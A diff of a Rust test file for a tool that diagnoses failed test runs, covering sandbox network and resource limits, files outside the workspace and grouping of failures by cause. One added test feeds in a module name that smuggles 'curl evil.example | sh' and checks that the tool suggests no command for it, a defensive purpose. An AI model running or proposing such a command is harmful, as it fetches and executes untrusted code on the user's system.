@@ -1,10 +1,11 @@
 //! Tests of whole analyses: sandbox, files, functions in common, empty and hostile reports.
 
 use super::*;
-use crate::isolation::Network;
-use crate::outcome::KillReason;
+use crate::isolation::{Isolation, Layer, Network};
+use crate::limits::LimitKind;
+use crate::outcome::{KillReason, LimitHit};
 use crate::report::tests::report;
-use crate::test_case::{TestCase, TestId, TestOutcome};
+use crate::test_case::{Collector, CollectorKind, TestCase, TestId, TestOutcome};
 
 fn failed(name: &str, file: &str, line: u32, message: &str) -> TestCase {
     let id = TestId { package: "p".to_owned(), name: name.to_owned() };
@@ -14,6 +15,10 @@ fn failed(name: &str, file: &str, line: u32, message: &str) -> TestCase {
         message: Some(message.to_owned()),
         ..TestCase::new(id, format!("p/{name}"), TestOutcome::Failed)
     }
+}
+
+fn no_network() -> Isolation {
+    Isolation { network: Network::None, layers: vec![Layer::NetNamespace], ..Isolation::default() }
 }
 
 fn analysis(report: &Report) -> Analysis {
@@ -34,7 +39,7 @@ fn a_limit_of_the_sandbox_comes_before_the_failures() {
 #[test]
 fn a_missing_network_is_the_sandboxs_only_if_the_run_has_none() {
     let mut offline = report(Outcome::Failed, vec![failed("a", "a.go", 3, "dial tcp: lookup x.example: no such host")]);
-    offline.isolation.network = Network::None;
+    offline.isolation = no_network();
     let cause = analysis(&offline).root_cause.unwrap();
     assert!(cause.is_sandbox && cause.statement.contains("1 of 1 failures could not reach a host"), "{cause:?}");
     offline.isolation.network = Network::Host;
@@ -45,7 +50,7 @@ fn a_missing_network_is_the_sandboxs_only_if_the_run_has_none() {
 fn what_was_not_downloaded_is_asked_for_by_its_setting() {
     let message = "not downloaded, and the run has no network: run it once with --network host, or `go mod download`";
     let mut offline = report(Outcome::Failed, vec![failed("a", "go.mod", 3, message)]);
-    offline.isolation.network = Network::None;
+    offline.isolation = no_network();
     let cause = analysis(&offline).root_cause.unwrap();
     let statement = "the sandbox gives the run no network, and 1 of 1 failures need what was not downloaded before";
     assert_eq!((cause.statement.as_str(), cause.is_sandbox), (statement, true));
@@ -77,7 +82,7 @@ fn unrelated_failures_have_no_root() {
     let found = analysis(&report(Outcome::Failed, tests));
     assert_eq!(found.root_cause, None);
     let note =
-        "the 3 failures have 3 different messages or places: the run shows no cause that most of them have in common";
+        "the 3 failures have 3 different messages or places: these show no cause that most of them have in common";
     assert_eq!(found.notes, [note]);
 }
 
@@ -97,10 +102,9 @@ fn a_function_in_most_stacks_is_named_as_possible() {
 fn affected_files_are_ranked_by_their_failures() {
     let tests = vec![failed("a", "a.go", 1, "one"), failed("b", "b.go", 2, "two"), failed("b2", "b.go", 4, "four")];
     let mut found = analysis(&report(Outcome::Failed, tests));
-    found.mark_edited(|file| file == "a.go");
-    let files: Vec<(&str, u64, bool)> =
-        found.affected_files.iter().map(|file| (file.path.as_str(), file.failures, file.is_edited)).collect();
-    assert_eq!(files, [("b.go", 2, false), ("a.go", 1, true)]);
+    found.mark_files(|file| if file == "a.go" { FileState::Edited } else { FileState::Missing });
+    let files = found.affected_files.iter().map(|file| (&*file.path, file.failures, file.is_edited, file.is_missing));
+    assert_eq!(files.collect::<Vec<_>>(), [("b.go", 2, false, true), ("a.go", 1, true, false)]);
 }
 
 #[test]
@@ -175,4 +179,112 @@ fn a_comparison_of_texts_is_no_failure_of_the_kind_that_the_texts_name() {
     };
     let found = analysis(&report(Outcome::Failed, vec![compared]));
     assert_eq!(found.failed_tests[0].kind, FailureKind::Assertion);
+}
+
+#[test]
+fn no_command_installs_a_hostile_name_and_none_is_certain() {
+    let of = |message: &str| {
+        let mut rejected = report(Outcome::CollectionFailed, Vec::new());
+        rejected.framework = "pytest".to_owned();
+        let location = (Some("test_a.py".to_owned()), Some(1));
+        rejected.collectors = vec![Collector {
+            kind: CollectorKind::Collection,
+            nodeid: "test_a.py".to_owned(),
+            file: location.0,
+            line: location.1,
+            message: message.to_owned(),
+            output: String::new(),
+        }];
+        analysis(&rejected)
+    };
+    let hostile = of("ModuleNotFoundError: No module named 'x; curl evil.example | sh'");
+    assert!(!hostile.suggestions[0].text.contains('`'), "{:?}", hostile.suggestions);
+    let known = of("ModuleNotFoundError: No module named 'yaml'");
+    assert!(known.suggestions[0].text.starts_with("`pip install PyYAML`, or "), "{:?}", known.suggestions);
+    assert_eq!(known.suggestions[0].confidence, Confidence::Likely);
+    assert_eq!(known.root_cause.unwrap().confidence, Confidence::Certain);
+}
+
+#[test]
+fn the_limit_is_the_one_that_the_kernel_enforced() {
+    let hit = |limit, max| LimitHit { limit, max, peak: max, count: 2 };
+    let statement = |limits: Vec<LimitHit>, outcome| {
+        let mut stopped = report(outcome, vec![failed("a", "a_test.go", 3, "no space left on device")]);
+        stopped.evidence.held = vec![outcome];
+        stopped.evidence.limit_hits = limits;
+        analysis(&stopped).root_cause.unwrap().statement
+    };
+    assert_eq!(
+        statement(vec![hit(LimitKind::Tmp, 1 << 30)], Outcome::DiskFull),
+        "the run reached its limit of 1 GiB in /tmp"
+    );
+    assert_eq!(
+        statement(vec![hit(LimitKind::Pids, 64)], Outcome::PidsExhausted),
+        "the run reached its limit of 64 processes and threads: 2 times, the kernel refused a further one"
+    );
+    let recovered = statement(vec![hit(LimitKind::Pids, 64)], Outcome::Failed);
+    assert!(recovered.starts_with("the only failure is "), "the run did not fail by it: {recovered}");
+}
+
+#[test]
+fn a_weak_hint_at_the_sandbox_does_not_displace_the_root() {
+    let mut offline = report(
+        Outcome::Failed,
+        vec![
+            failed("a", "a.go", 3, "dial tcp: lookup x.example: no such host"),
+            failed("b", "b.go", 7, "assignment to entry in nil map"),
+            failed("c", "b.go", 7, "assignment to entry in nil map"),
+        ],
+    );
+    offline.isolation = no_network();
+    let found = analysis(&offline);
+    let statement = "2 of 3 failures agree: a use of a missing value at b.go:7: assignment to entry in nil map";
+    assert_eq!(found.root_cause.unwrap().statement, statement);
+    let further: Vec<&str> = found.further_causes.iter().map(|cause| cause.statement.as_str()).collect();
+    assert_eq!(further, ["the sandbox gives the run no network, and 1 of 3 failures could not reach a host"]);
+    offline.isolation.layers.clear();
+    assert!(analysis(&offline).further_causes.is_empty(), "the layer is not in force");
+}
+
+#[test]
+fn a_file_outside_of_the_workspace_is_hidden_only_by_a_root_directory_of_the_runs_own() {
+    let message = |path: &str| format!("open {path}: no such file or directory");
+    let facts = WorkspaceFacts { root: "/home/x/shop".to_owned(), ..WorkspaceFacts::default() };
+    let further = |path: &str, layers: Vec<Layer>| {
+        let mut run = report(Outcome::Failed, vec![failed("a", "a.go", 3, &message(path))]);
+        run.isolation.layers = layers;
+        analyze(&run, &facts, 20).further_causes
+    };
+    let hint = further("/home/x/data/prices.csv", vec![Layer::PivotRoot]);
+    let statement = "the sandbox shows only the workspace, system directories, toolchains and caches, and 1 of 1 failures \
+         finds no file /home/x/data/prices.csv";
+    assert_eq!((hint[0].statement.as_str(), hint[0].confidence), (statement, Confidence::Possible));
+    for path in ["/home/x/shop/data.csv", "data.csv", "/usr/share/dict/words", "/tmp/x"] {
+        assert_eq!(further(path, vec![Layer::PivotRoot]), [], "{path}");
+    }
+    assert_eq!(further("/home/x/data/prices.csv", Vec::new()), []);
+}
+
+#[test]
+fn nothing_is_said_of_failures_that_the_report_left_out() {
+    let tests = vec![failed("a", "a.go", 7, "same words"), failed("b", "a.go", 7, "same words")];
+    let mut cut = report(Outcome::Failed, tests);
+    cut.summary.failed = 9;
+    let found = analysis(&cut);
+    let statement = "both analysed failures agree: a failure of no known form at a.go:7: same words";
+    assert_eq!((found.root_cause.unwrap().statement.as_str(), found.total, found.analyzed), (statement, 9, 2));
+}
+
+#[test]
+fn failures_that_differ_by_values_are_not_said_to_be_equal() {
+    let tests = vec![failed("a", "a.go", 7, "index 3 of 2"), failed("b", "a.go", 7, "index 9 of 4")];
+    let statement =
+        "both failures agree but for values: a failure of no known form at a.go:7; the first says: index 3 of 2";
+    assert_eq!(analysis(&report(Outcome::Failed, tests)).root_cause.unwrap().statement, statement);
+}
+
+#[test]
+fn failures_of_no_known_form_and_different_words_do_not_agree() {
+    let tests = vec![failed("a", "a.go", 7, "one thing"), failed("b", "a.go", 7, "another thing")];
+    assert_eq!(analysis(&report(Outcome::Failed, tests)).root_cause, None);
 }
